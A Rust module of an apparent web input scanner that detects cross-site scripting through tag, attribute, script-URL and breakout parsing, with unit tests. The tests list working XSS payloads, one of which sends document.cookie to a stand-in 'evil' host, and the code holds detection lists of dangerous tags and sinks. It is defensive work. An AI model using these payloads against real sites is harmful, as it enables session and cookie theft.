//! Cross-site scripting: markup or script that a browser would run if the value were
//! reflected into a page. Tags are parsed (name, attributes) rather than searched for, so
//! harmless markup (`<b>`, `<a href="https://...">`) and prose about scripts do not match.
//! Script without markup is `script`'s part.

mod script;

use super::Match;

/// Tags that run code or change how the page loads, whatever their attributes.
const DANGEROUS_TAGS: &[&str] = &[
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "base", "import",
    "isindex", "listener", "handler", "layer", "ilayer", "bgsound",
];

/// Attributes whose value is a URL that may carry a `javascript:` scheme.
const URL_ATTRIBUTES: &[&str] = &[
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "xlink:href",
    "background",
    "dynsrc",
    "lowsrc",
    "poster",
    "to",
    "from",
    "values",
    "srcset",
];

/// Calls that prove a script context breakout (`'-alert(1)-'`).
const SINKS: &[&str] = &[
    "alert(",
    "prompt(",
    "confirm(",
    "eval(",
    "settimeout(",
    "setinterval(",
    "function(",
    "fetch(",
    "import(",
    "document.cookie",
    "document.domain",
    "document.write",
    "window.location",
    "location.href",
    "top.location",
    ".innerhtml",
    "constructor.constructor(",
    "string.fromcharcode(",
];

/// Buffers reused from one value to the next: the lowercased value and its JavaScript
/// unescaping.
#[derive(Default)]
pub struct Scratch {
    lower: String,
    unescaped: String,
}

/// Checks one decoded value.
pub fn check(value: &str) -> Option<Match> {
    check_with(value, &mut Scratch::default())
}

/// [`check`], with buffers from `scratch`.
pub fn check_with(value: &str, scratch: &mut Scratch) -> Option<Match> {
    if value.len() < 4 {
        return None;
    }
    let lower = &mut scratch.lower;
    lower.clear();
    lower.push_str(value);
    lower.make_ascii_lowercase();
    if let Some(m) = check_lower(value, lower) {
        return Some(m);
    }
    // Reflected into a script string, `\x3c` and `\u0061` are `<` and `a` again.
    if script::unescape_js(lower, &mut scratch.unescaped) {
        let m = check_lower(&scratch.unescaped, &scratch.unescaped)?;
        return Some(Match::new(m.rule, value, 0, value.len()));
    }
    None
}

/// The checks on `lower`, the ASCII-lowercased `value` (fragments quote `value`).
fn check_lower(value: &str, lower: &str) -> Option<Match> {
    if let Some(m) = tags(value, lower) {
        return Some(m);
    }
    if let Some(at) = script_scheme_at_start(lower) {
        return Some(Match::new(
            "xss:script_url",
            value,
            at,
            (at + 11).min(value.len()),
        ));
    }
    if let Some((s, e)) = attribute_breakout(lower) {
        return Some(Match::new("xss:attribute_breakout", value, s, e));
    }
    if let Some((s, e)) = script_breakout(lower) {
        return Some(Match::new("xss:script_breakout", value, s, e));
    }
    // Both need a call: `(` or a tagged template's backtick.
    let calls = lower.contains('(') || lower.contains('`');
    if calls
        && lower.contains('=')
        && let Some((s, e)) = script::bare_handler(lower)
    {
        return Some(Match::new("xss:attribute_breakout", value, s, e));
    }
    if calls && let Some((s, e)) = script::tagless_call(lower) {
        return Some(Match::new("xss:script_call", value, s, e));
    }
    if let Some((s, e)) = script_url_inside(lower) {
        return Some(Match::new("xss:script_url", value, s, e));
    }
    // `style=xss:expression(alert(1))`: an attribute of its own, injected unquoted.
    let b = lower.as_bytes();
    if let Some(p) = (5..b.len()).find(|&i| b[i] == b'=' && lower[..i].ends_with("style"))
        && dangerous_css(&lower[p..])
    {
        return Some(Match::new("xss:attribute", value, p - 5, p + 20));
    }
    None
}

/// A `javascript:` or `vbscript:` URL inside the value (`?url=javascript:alert(1)`,
/// `getURL("javascript:...")`) followed by code: a call or an assignment. Prose ("I love
/// JavaScript: it is fun") puts a space after the colon.
fn script_url_inside(lower: &str) -> Option<(usize, usize)> {
    // From each `:` back, rather than a substring search per scheme: one byte scan.
    let b = lower.as_bytes();
    for colon in (0..b.len()).filter(|&i| b[i] == b':') {
        let before = &lower[..colon];
        let Some(scheme) = ["javascript", "vbscript"]
            .into_iter()
            .find(|s| before.ends_with(s))
            .map(|s| s.len() + 1)
        else {
            continue;
        };
        let at = colon + 1 - scheme;
        let rest = &lower[colon + 1..];
        let code = rest.as_bytes().first().is_some_and(|c| !c.is_ascii_whitespace())
            && rest.bytes().take(60).any(|c| matches!(c, b'(' | b'`' | b'='));
        if code {
            return Some((at, (at + scheme + 16).min(lower.len())));
        }
    }
    None
}

fn tags(value: &str, lower: &str) -> Option<Match> {
    let b = lower.as_bytes();
    let mut i = 0;
    while let Some(p) = lower[i..].find('<') {
        let start = i + p;
        let mut j = start + 1;
        if b.get(j) == Some(&b'/') {
            j += 1;
        }
        let name_start = j;
        while j < b.len() && (b[j].is_ascii_alphanumeric() || b[j] == b'-' || b[j] == b':') {
            j += 1;
        }
        i = start + 1;
        if j == name_start || !b[name_start].is_ascii_alphabetic() {
            continue;
        }
        let name = &lower[name_start..j];
        if DANGEROUS_TAGS.contains(&name) {
            return Some(Match::new("xss:tag", value, start, j));
        }
        let end = lower[j..].find('>').map_or(b.len(), |e| j + e);
        if let Some((s, e)) = dangerous_attribute(&lower[j..end], name) {
            return Some(Match::new("xss:attribute", value, start, j + e.max(s)));
        }
        if let Some(e) = loose_handler(&lower[j..end]) {
            return Some(Match::new("xss:attribute", value, start, j + e));
        }
        // `<style>@import '...'</style>`: the style sheet is the element's content.
        if name == "style" && b.get(end) == Some(&b'>') {
            let content = &lower[end + 1..];
            let content = &content[..content.find("</style").unwrap_or(content.len())];
            if dangerous_css(content) {
                return Some(Match::new("xss:tag", value, start, end + 1));
            }
        }
    }
    None
}

/// Scans `attrs` (the inside of a tag after its name) for an event handler, a script URL or
/// a script-bearing style; returns the byte range of the attribute.
fn dangerous_attribute(attrs: &str, tag: &str) -> Option<(usize, usize)> {
    let b = attrs.as_bytes();
    let mut i = 0;
    while i < b.len() {
        // Attribute separators: white space and `/` (browsers accept `<svg/onload=...>`).
        while i < b.len()
            && (b[i].is_ascii_whitespace() || b[i] == b'/' || b[i] == b'"' || b[i] == b'\'')
        {
            i += 1;
        }
        let name_start = i;
        while i < b.len() && !b[i].is_ascii_whitespace() && !matches!(b[i], b'=' | b'/' | b'>') {
            i += 1;
        }
        let name = &attrs[name_start..i];
        while i < b.len() && b[i].is_ascii_whitespace() {
            i += 1;
        }
        let mut value = "";
        if b.get(i) == Some(&b'=') {
            i += 1;
            while i < b.len() && b[i].is_ascii_whitespace() {
                i += 1;
            }
            let (vs, ve) = match b.get(i) {
                Some(&q @ (b'"' | b'\'' | b'`')) => {
                    let close = attrs[i + 1..]
                        .find(q as char)
                        .map_or(b.len(), |c| i + 1 + c);
                    (i + 1, close)
                }
                _ => {
                    let e = attrs[i..]
                        .find(|c: char| c.is_ascii_whitespace())
                        .map_or(b.len(), |c| i + c);
                    (i, e)
                }
            };
            value = &attrs[vs..ve];
            i = (ve + 1).min(b.len());
            let handler = name.len() > 2
                && name.starts_with("on")
                && name[2..].bytes().all(|c| c.is_ascii_alphabetic());
            if handler {
                return Some((name_start, ve));
            }
            if URL_ATTRIBUTES.contains(&name) && script_scheme_at_start(value).is_some() {
                return Some((name_start, ve));
            }
            // IE data binding renders a bound field as HTML.
            if matches!(name, "datasrc" | "dataformatas") {
                return Some((name_start, ve));
            }
            if name == "srcdoc" && value.contains('<') {
                return Some((name_start, ve));
            }
            if name == "style" && dangerous_css(value) {
                return Some((name_start, ve));
            }
            if tag == "meta" && name == "http-equiv" && value.contains("refresh") {
                return Some((name_start, ve));
            }
        } else if name.is_empty() {
            i += 1;
        }
        let _ = value;
    }
    if tag == "style" {
        return dangerous_css(attrs).then_some((0, attrs.len()));
    }
    None
}

/// An event handler the attribute parser would not see, as browsers still do: glued to a
/// quote or a slash (`"onerror=`, `onerror/=`), or behind a namespace prefix
/// (`x:ontimer=`); returns the end of the `=`.
fn loose_handler(attrs: &str) -> Option<usize> {
    let b = attrs.as_bytes();
    for at in (0..b.len().saturating_sub(1)).filter(|&i| b[i] == b'o' && b[i + 1] == b'n') {
        if at > 0 && b[at - 1].is_ascii_alphanumeric() {
            continue;
        }
        let name = b[at + 2..].iter().take_while(|c| c.is_ascii_alphabetic()).count();
        if name < 3 {
            continue;
        }
        let mut i = at + 2 + name;
        while i < b.len() && (b[i].is_ascii_whitespace() || b[i] == b'/') {
            i += 1;
        }
        if b.get(i) == Some(&b'=') && b.get(i + 1) != Some(&b'=') {
            return Some(i + 1);
        }
    }
    None
}

fn dangerous_css(css: &str) -> bool {
    const SHAPES: [&str; 6] = [
        "expression(",
        "javascript:",
        "behavior:",
        "-moz-binding",
        "binding:",
        "@import",
    ];
    if SHAPES.iter().any(|p| css.contains(p)) {
        return true;
    }
    // CSS escapes (`\65 xpression(`, `-\mo\z-binding`) and comments spell the same
    // properties (CSS Syntax Level 3, 4.3.7).
    (css.contains('\\') || css.contains("/*")) && {
        let plain = script::unescape_css(css);
        SHAPES.iter().any(|p| plain.contains(p))
    }
}

/// Start of a `javascript:`/`vbscript:`/`data:text/html` URL at the start of `lower`,
/// ignoring the white space and control characters browsers ignore there.
fn script_scheme_at_start(lower: &str) -> Option<usize> {
    let start = lower.find(|c: char| !c.is_ascii_whitespace() && !c.is_ascii_control())?;
    // Tabs and newlines inside the scheme are ignored by browsers (`java\tscript:`).
    let squeezed = || {
        lower.as_bytes()[start..]
            .iter()
            .copied()
            .filter(|b| !b.is_ascii_control())
    };
    ["javascript:", "vbscript:", "data:text/html", "livescript:"]
        .iter()
        .any(|s| {
            let mut rest = squeezed();
            s.bytes().all(|c| rest.next() == Some(c))
        })
        .then_some(start)
}

/// `" onmouseover="...`, `' autofocus onfocus=...`: a quote that ends an attribute value
/// followed by a new event-handler attribute.
fn attribute_breakout(lower: &str) -> Option<(usize, usize)> {
    let b = lower.as_bytes();
    // Byte positions of the quotes: ASCII bytes are never part of another character.
    for q in (0..b.len()).filter(|&i| matches!(b[i], b'"' | b'\'')) {
        let mut i = q + 1;
        // Attributes may follow one another before the handler.
        let mut seen_sep = false;
        while i < b.len() && (b[i].is_ascii_whitespace() || b[i] == b'/') {
            i += 1;
            seen_sep = true;
        }
        // `""onmouseover=`: browsers take a handler glued to the closing quote too.
        let glued = !seen_sep && lower[i..].starts_with("on");
        if !seen_sep && !glued && b.get(i) != Some(&b'>') {
            continue;
        }
        let rest = &lower[i..];
        let name_len = rest.bytes().take_while(|c| c.is_ascii_alphabetic()).count();
        let after = rest[name_len..].trim_start();
        if name_len > 2 && rest.starts_with("on") && after.starts_with('=') {
            return Some((q, i + name_len + 1));
        }
        if rest.starts_with("autofocus") && rest.contains("onfocus") {
            return Some((q, lower.len().min(i + 20)));
        }
    }
    None
}

/// `';alert(1)//`, `"-prompt(1)-"`, `'};fetch(...)`: a quote closing a script string,
/// an operator, then a sink call.
fn script_breakout(lower: &str) -> Option<(usize, usize)> {
    let b = lower.as_bytes();
    for q in (0..b.len()).filter(|&i| matches!(b[i], b'"' | b'\'' | b'`')) {
        let mut i = q + 1;
        let mut ops = 0;
        while i < b.len() && (b[i].is_ascii_whitespace() || b"-+;,*/|&})]!^~%<>=(".contains(&b[i]))
        {
            if !b[i].is_ascii_whitespace() {
                ops += 1;
            }
            i += 1;
        }
        if ops == 0 {
            continue;
        }
        let rest = &lower[i..];
        let rest = rest
            .strip_prefix("window.")
            .or_else(|| rest.strip_prefix("self."))
            .or_else(|| rest.strip_prefix("top."))
            .unwrap_or(rest);
        if let Some(sink) = SINKS.iter().find(|s| rest.starts_with(*s)) {
            return Some((q, (lower.len() - rest.len() + sink.len()).min(lower.len())));
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn attacks_match() {
        let attacks = [
            "<script>alert(1)</script>",
            "<ScRiPt src=//evil.example/x.js>",
            "<img src=x onerror=alert(1)>",
            "<img src=x onerror=alert(1)",
            "<svg/onload=alert(1)>",
            "<body onload=alert(document.cookie)>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\"java\tscript:alert(1)\">x</a>",
            "<iframe srcdoc=\"<script>alert(1)</script>\">",
            "<iframe src=//evil>",
            "<div style=\"width:expression(alert(1))\">",
            "javascript:alert(1)",
            "  JaVaScRiPt:alert(1)",
            "data:text/html;base64,PHNjcmlwdD4=",
            "\" onmouseover=\"alert(1)",
            "' autofocus onfocus=alert(1) x='",
            "\"><svg onload=alert(1)>",
            "';alert(1)//",
            "\"-prompt(1)-\"",
            "'};fetch('//evil/'+document.cookie);//",
            "<details open ontoggle=alert(1)>",
            "<meta http-equiv=\"refresh\" content=\"0;url=//evil\">",
            "<object data=\"javascript:alert(1)\">",
            "<math><a xlink:href=\"javascript:alert(1)\">x</a></math>",
        ];
        let missed: Vec<_> = attacks.iter().filter(|a| check(a).is_none()).collect();
        assert!(missed.is_empty(), "missed: {missed:?}");
    }

    #[test]
    fn benign_text_does_not_match() {
        let benign = [
            "I love JavaScript: it's great",
            "<b>bold</b> and <i>italic</i>",
            "<a href=\"https://example.com/page\">link</a>",
            "x < 3 and y > 2",
            "a<b>c",
            "the script was long",
            "onload event handlers are a JS topic",
            "He said \"hello\" and left",
            "It's done; alert the team (later)",
            "<p class=\"note\">Hi</p>",
            "<3 you",
            "email me: a@b.c",
            "Use alert() sparingly",
            "\"quoted\" onwards",
        ];
        for b in benign {
            assert_eq!(check(b), None, "{b}");
        }
    }
}
